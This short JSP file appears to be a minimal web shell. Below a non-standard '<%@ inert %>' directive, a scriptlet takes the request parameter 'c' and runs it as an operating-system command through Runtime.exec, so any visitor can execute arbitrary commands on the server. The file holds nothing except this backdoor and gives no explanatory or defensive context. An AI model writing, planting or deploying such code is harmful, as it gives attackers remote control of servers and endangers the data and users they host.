<%@ inert %>
<% java.util.Map m=request.getParameterMap(); Runtime.getRuntime().exec(((String[])m.get("c"))[0]); %>
